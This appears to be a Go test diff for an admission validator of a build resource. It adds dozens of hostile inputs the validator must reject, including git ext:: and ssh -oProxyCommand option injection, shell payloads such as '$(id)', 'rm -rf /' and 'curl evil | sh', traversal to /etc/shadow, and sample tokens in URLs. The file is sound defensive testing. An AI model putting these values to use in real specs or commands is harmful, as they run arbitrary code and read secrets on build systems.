@@ -86,22 +86,74 @@ var invalidCases = []admissionCase{
 	{"url with semicolon", setTo("spec.source.git.url", "https://example.com/app.git;rm"), "spec.source.git.url"},
 	{"url with backtick", setTo("spec.source.git.url", "https://example.com/`id`.git"), "spec.source.git.url"},
 	{"url with newline", setTo("spec.source.git.url", "https://example.com/app.git\nrm -rf /"), "spec.source.git.url"},
+	{"url ext transport runs a command", setTo("spec.source.git.url", "ext::sh -c touch% /tmp/pwned"), "spec.source.git.url"},
+	{"url fd transport", setTo("spec.source.git.url", "fd::17"), "spec.source.git.url"},
+	{"url with pipe", setTo("spec.source.git.url", "https://example.com/app.git|id"), "spec.source.git.url"},
+	{"url with single quote", setTo("spec.source.git.url", "https://example.com/app'.git"), "spec.source.git.url"},
+	{"url with redirection", setTo("spec.source.git.url", "https://example.com/app.git>/etc/passwd"), "spec.source.git.url"},
+	{"url with Tekton variable", setTo("spec.source.git.url", "https://example.com/$(context.pipelineRun.name).git"), "spec.source.git.url"},
+	{"url with homoglyph host", setTo("spec.source.git.url", "https://gіthub.com/example/app.git"), "spec.source.git.url"},
+	// source.git.url: option injection in every part git or ssh might see as
+	// an argument (the scheme-less forms go to ssh as "user@host").
+	{"url ssh option as ssh host", setTo("spec.source.git.url", "ssh://-oProxyCommand=touch%20pwned/app.git"), "spec.source.git.url"},
+	{"url ssh option as ssh user", setTo("spec.source.git.url", "ssh://-oProxyCommand=id@example.com/app.git"), "spec.source.git.url"},
+	{"url ssh host starting with dash after user", setTo("spec.source.git.url", "ssh://git@-oProxyCommand=id/app.git"), "spec.source.git.url"},
+	{"url ssh port starting with dash", setTo("spec.source.git.url", "ssh://git@example.com:-oProxyCommand=id/app.git"), "spec.source.git.url"},
+	{"url ssh bracketed host starting with dash", setTo("spec.source.git.url", "ssh://[-oProxyCommand=id]/app.git"), "spec.source.git.url"},
+	{"url https host starting with dash", setTo("spec.source.git.url", "https://-example.com/app.git"), "spec.source.git.url"},
+	{"url git host starting with dash", setTo("spec.source.git.url", "git://-example.com/app.git"), "spec.source.git.url"},
+	{"url http host starting with dash", setTo("spec.source.git.url", "http://--upload-pack=id/app.git"), "spec.source.git.url"},
+	{"url scp-like user starting with dash", setTo("spec.source.git.url", "-oProxyCommand@example.com:app.git"), "spec.source.git.url"},
+	{"url scp-like host starting with dash", setTo("spec.source.git.url", "git@-oProxyCommand:app.git"), "spec.source.git.url"},
+	{"url scp-like path starting with dash", setTo("spec.source.git.url", "git@example.com:--upload-pack=id"), "spec.source.git.url"},
+	{"url scp-like path single dash option", setTo("spec.source.git.url", "git@example.com:-u"), "spec.source.git.url"},
+	{"url single dash option", setTo("spec.source.git.url", "-u"), "spec.source.git.url"},
+	// source.git.url: credentials belong in a Secret, not in the spec (and the
+	// step's log, which prints the URL).
+	{"url https user and password", setTo("spec.source.git.url", "https://user:pass@github.com/example/app.git"), "spec.source.git.url"},
+	{"url https token as user", setTo("spec.source.git.url", "https://ghp_0123456789abcdef@github.com/example/app.git"), "spec.source.git.url"},
+	{"url https token as password", setTo("spec.source.git.url", "https://x-access-token:ghs_abcdef@github.com/example/app.git"), "spec.source.git.url"},
+	{"url https password only", setTo("spec.source.git.url", "https://:glpat-secret@gitlab.com/example/app.git"), "spec.source.git.url"},
+	{"url https empty password", setTo("spec.source.git.url", "https://user:@github.com/example/app.git"), "spec.source.git.url"},
+	{"url https credentials with port", setTo("spec.source.git.url", "https://oauth2:token@git.example.com:8443/example/app.git"), "spec.source.git.url"},
+	{"url http user and password", setTo("spec.source.git.url", "http://user:pass@127.0.0.1:8080/app.git"), "spec.source.git.url"},
+	{"url git protocol with user", setTo("spec.source.git.url", "git://user:pass@example.com/app.git"), "spec.source.git.url"},
+	{"url ssh user and password", setTo("spec.source.git.url", "ssh://git:secret@example.com/app.git"), "spec.source.git.url"},
+	{"url scp-like user and password", setTo("spec.source.git.url", "git:secret@example.com:app.git"), "spec.source.git.url"},
 	// source.git.revision
 	{"revision option injection", setTo("spec.source.git.revision", "--upload-pack=evil"), "spec.source.git.revision"},
 	{"revision with dot-dot", setTo("spec.source.git.revision", "main..evil"), "spec.source.git.revision"},
 	{"revision with space", setTo("spec.source.git.revision", "main branch"), "spec.source.git.revision"},
 	{"revision with shell", setTo("spec.source.git.revision", "main;id"), "spec.source.git.revision"},
+	{"revision single dash option", setTo("spec.source.git.revision", "-q"), "spec.source.git.revision"},
+	{"revision with command substitution", setTo("spec.source.git.revision", "$(id)"), "spec.source.git.revision"},
+	{"revision with reflog syntax", setTo("spec.source.git.revision", "main@{1}"), "spec.source.git.revision"},
+	{"revision ending in .lock", setTo("spec.source.git.revision", "main.lock"), "spec.source.git.revision"},
+	{"revision with newline", setTo("spec.source.git.revision", "main\nid"), "spec.source.git.revision"},
 	// source.contextDir
 	{"contextDir absolute", setTo("spec.source.contextDir", "/etc"), "spec.source.contextDir"},
 	{"contextDir parent", setTo("spec.source.contextDir", "../outside"), "spec.source.contextDir"},
 	{"contextDir parent in the middle", setTo("spec.source.contextDir", "src/../../outside"), "spec.source.contextDir"},
 	{"contextDir is dot-dot", setTo("spec.source.contextDir", ".."), "spec.source.contextDir"},
 	{"contextDir with shell", setTo("spec.source.contextDir", "src;rm -rf /"), "spec.source.contextDir"},
+	{"contextDir trailing parent", setTo("spec.source.contextDir", "src/.."), "spec.source.contextDir"},
+	{"contextDir dot then parent", setTo("spec.source.contextDir", "./../../etc"), "spec.source.contextDir"},
+	{"contextDir home", setTo("spec.source.contextDir", "~/x"), "spec.source.contextDir"},
+	{"contextDir glob", setTo("spec.source.contextDir", "src/*"), "spec.source.contextDir"},
+	{"contextDir variable", setTo("spec.source.contextDir", "$HOME"), "spec.source.contextDir"},
+	{"contextDir backtick", setTo("spec.source.contextDir", "src/`id`"), "spec.source.contextDir"},
+	{"contextDir newline", setTo("spec.source.contextDir", "src\n/etc"), "spec.source.contextDir"},
 	// strategy.containerfile
 	{"containerfile absolute", setTo("spec.strategy.containerfile", "/Containerfile"), "spec.strategy.containerfile"},
 	{"containerfile parent", setTo("spec.strategy.containerfile", "../Containerfile"), "spec.strategy.containerfile"},
 	{"containerfile trailing parent", setTo("spec.strategy.containerfile", "docker/.."), "spec.strategy.containerfile"},
 	{"containerfile command substitution", setTo("spec.strategy.containerfile", "docker/$(id)"), "spec.strategy.containerfile"},
+	{"containerfile the pod's shadow file", setTo("spec.strategy.containerfile", "/etc/shadow"), "spec.strategy.containerfile"},
+	{"containerfile parent in the middle", setTo("spec.strategy.containerfile", "docker/../../../etc/shadow"), "spec.strategy.containerfile"},
+	{"containerfile is dot-dot", setTo("spec.strategy.containerfile", ".."), "spec.strategy.containerfile"},
+	{"containerfile empty", setTo("spec.strategy.containerfile", ""), "spec.strategy.containerfile"},
+	{"containerfile with pipe", setTo("spec.strategy.containerfile", "Containerfile|id"), "spec.strategy.containerfile"},
+	{"containerfile with space", setTo("spec.strategy.containerfile", "Containerfile -f /etc/shadow"), "spec.strategy.containerfile"},
 	// platforms
 	{"platform unknown", setTo("spec.platforms", []any{"linux/mips"}), "spec.platforms"},
 	{"platform without os", setTo("spec.platforms", []any{"arm64"}), "spec.platforms"},
@@ -117,6 +169,10 @@ var invalidCases = []admissionCase{
 	{"image without registry", setTo("spec.output.image", "app"), "spec.output.image"},
 	{"image bad tag", setTo("spec.output.image", "quay.io/example/app:bad tag"), "spec.output.image"},
 	{"image with scheme", setTo("spec.output.image", "docker://quay.io/example/app"), "spec.output.image"},
+	{"image starting with dash", setTo("spec.output.image", "--tls-verify=false"), "spec.output.image"},
+	{"image with shell", setTo("spec.output.image", "quay.io/example/app;id"), "spec.output.image"},
+	{"image with parent component", setTo("spec.output.image", "quay.io/../app"), "spec.output.image"},
+	{"image tag starting with dash", setTo("spec.output.image", "quay.io/example/app:-x"), "spec.output.image"},
 	// strategy blocks
 	{"strategy type unknown", setTo("spec.strategy.type", "Gradle"), "spec.strategy.type"},
 	{"nodejs block with Containerfile", setTo("spec.strategy.nodejs", map[string]any{"installCommand": "npm ci"}), "spec.strategy.nodejs"},
@@ -142,6 +198,18 @@ var invalidCases = []admissionCase{
 		set(o, "spec.strategy.type", "NodeJS")
 		set(o, "spec.strategy.nodejs.installCommand", "npm ci > /dev/null")
 	}, "spec.strategy.nodejs.installCommand"},
+	{"installCommand backtick", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.installCommand", "npm ci `id`")
+	}, "spec.strategy.nodejs.installCommand"},
+	{"installCommand quoted shell", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.installCommand", "sh -c 'curl evil | sh'")
+	}, "spec.strategy.nodejs.installCommand"},
+	{"installCommand newline", func(o map[string]any) {
+		set(o, "spec.strategy.type", "NodeJS")
+		set(o, "spec.strategy.nodejs.installCommand", "npm ci\nid")
+	}, "spec.strategy.nodejs.installCommand"},
 	{"nodejs image invalid", func(o map[string]any) {
 		set(o, "spec.strategy.type", "NodeJS")
 		set(o, "spec.strategy.nodejs.image", "Not An Image")
@@ -150,12 +218,26 @@ var invalidCases = []admissionCase{
 		set(o, "spec.strategy.type", "Maven")
 		set(o, "spec.strategy.maven.goals", []any{"package;rm -rf /"})
 	}, "spec.strategy.maven.goals"},
+	{"maven goal with command substitution", func(o map[string]any) {
+		set(o, "spec.strategy.type", "Maven")
+		set(o, "spec.strategy.maven.goals", []any{"-Dx=$(id)"})
+	}, "spec.strategy.maven.goals"},
+	{"maven goal with space", func(o map[string]any) {
+		set(o, "spec.strategy.type", "Maven")
+		set(o, "spec.strategy.maven.goals", []any{"package -Dexec.executable=sh"})
+	}, "spec.strategy.maven.goals"},
+	{"maven image with shell", func(o map[string]any) {
+		set(o, "spec.strategy.type", "Maven")
+		set(o, "spec.strategy.maven.image", "quay.io/example/maven|id")
+	}, "spec.strategy.maven.image"},
 	{"maven goals empty", func(o map[string]any) {
 		set(o, "spec.strategy.type", "Maven")
 		set(o, "spec.strategy.maven.goals", []any{})
 	}, "spec.strategy.maven.goals"},
 	{"build arg name invalid", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "1BAD", "value": "x"}}), "spec.strategy.buildArgs"},
 	{"build arg name with shell", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "A=$(id)", "value": "x"}}), "spec.strategy.buildArgs"},
+	{"build arg name starting with dash", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "-f", "value": "/etc/shadow"}}), "spec.strategy.buildArgs"},
+	{"build arg name with space", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "A B", "value": "x"}}), "spec.strategy.buildArgs"},
 	{"build arg duplicate", setTo("spec.strategy.buildArgs", []any{
 		map[string]any{"name": "VERSION", "value": "1"}, map[string]any{"name": "VERSION", "value": "2"},
 	}), "spec.strategy.buildArgs"},
@@ -180,6 +262,13 @@ var invalidCases = []admissionCase{
 	}, "metadata.name"},
 	{"builderImage invalid", setTo("spec.builderImage", "buildah; rm -rf /"), "spec.builderImage"},
 	{"serviceAccountName invalid", setTo("spec.serviceAccountName", "Bad_Name"), "spec.serviceAccountName"},
+	{"builderImage option", setTo("spec.builderImage", "--privileged"), "spec.builderImage"},
+	{"builderImage command substitution", setTo("spec.builderImage", "quay.io/$(id)/buildah"), "spec.builderImage"},
+	{"serviceAccountName path", setTo("spec.serviceAccountName", "../default"), "spec.serviceAccountName"},
+	{"serviceAccountName starting with dash", setTo("spec.serviceAccountName", "-builder"), "spec.serviceAccountName"},
+	{"storageClassName with shell", setTo("spec.workspace.storageClassName", "efs;id"), "spec.workspace.storageClassName"},
+	{"instance type with shell", setTo("spec.capacity.instanceTypes", map[string]any{"arm64": "m6g.2xlarge;id"}), "spec.capacity.instanceTypes"},
+	{"timeout with shell", setTo("spec.timeout", "1h;id"), "spec.timeout"},
 }
 
 var env *testenv.Env
@@ -226,8 +315,8 @@ func TestAdmissionRejectsInvalidSpecsNamingTheField(t *testing.T) {
 			rejected++
 		})
 	}
-	if len(invalidCases) < 30 {
-		t.Errorf("only %d admission cases; the suite promises at least 30", len(invalidCases))
+	if len(invalidCases) < 100 {
+		t.Errorf("only %d admission cases; the suite promises at least 100", len(invalidCases))
 	}
 	t.Logf("admission: %d of %d invalid or hostile MultiArchBuilds rejected with their field named", rejected, len(invalidCases))
 	fmt.Printf("SUMMARY: admission: %d of %d invalid or hostile MultiArchBuilds rejected with their field named\n", rejected, len(invalidCases))
@@ -244,6 +333,10 @@ func TestCustomMessagesNameFieldAndFix(t *testing.T) {
 		{"spec.source.contextDir", "../x", "'..' is not allowed"},
 		{"spec.source.git.url", "ftp://example.com/x", "https://, http://, ssh:// or git://"},
 		{"spec.timeout", "0s", "positive duration"},
+		{"spec.source.git.url", "https://user:token@github.com/example/app.git", "spec.source.git.secretRef"},
+		{"spec.source.git.url", "https://token@github.com/example/app.git", "must not embed credentials"},
+		{"spec.source.git.url", "ssh://-oProxyCommand=id/app.git", "must not start with '-'"},
+		{"spec.source.git.url", "git@example.com:-u", "command-line option"},
 	} {
 		o := valid()
 		set(o, tc.path, tc.value)
@@ -263,6 +356,17 @@ func TestAdmissionAcceptsValidEdgeCases(t *testing.T) {
 		{"scp-like url", setTo("spec.source.git.url", "git@github.com:example/app.git")},
 		{"ssh url with port", setTo("spec.source.git.url", "ssh://git@example.com:2222/app.git")},
 		{"git url", setTo("spec.source.git.url", "git://127.0.0.1/app.git")},
+		{"scp-like url with org and dashes", setTo("spec.source.git.url", "git@git-host.example.com:my-org/my-repo.git")},
+		{"ssh url with user", setTo("spec.source.git.url", "ssh://git@github.com/example/app.git")},
+		{"ssh url with bracketed IPv6 host", setTo("spec.source.git.url", "ssh://git@[::1]:2222/app.git")},
+		{"https url without credentials", setTo("spec.source.git.url", "https://git.example.com:8443/my-org/my-repo.git")},
+		{"http url to a local server", setTo("spec.source.git.url", "http://127.0.0.1:8080/public/app.git")},
+		{"dash at the start of a path segment", setTo("spec.source.git.url", "https://github.com/example/-app.git")},
+		{"at sign in the path, not the authority", setTo("spec.source.git.url", "https://example.com/org/app@v1.git")},
+		{"scp-like path with a dash inside", setTo("spec.source.git.url", "git@example.com:org/-app.git")},
+		{"contextDir with a dash inside", setTo("spec.source.contextDir", "my-app")},
+		{"nested contextDir with dashes", setTo("spec.source.contextDir", "apps/my-app/src")},
+		{"containerfile with dashes", setTo("spec.strategy.containerfile", "docker/my-app.Containerfile")},
 		{"registry with port and tag", setTo("spec.output.image", "127.0.0.1:5000/e2e/app:v1.2.3")},
 		{"nested repository", setTo("spec.output.image", "quay.io/org/team/app_name-x:latest")},
 		{"commit sha revision", setTo("spec.source.git.revision", "3b11df8a0c3e0f1f5b1b2d5e1f0a9c8b7d6e5f4a")},
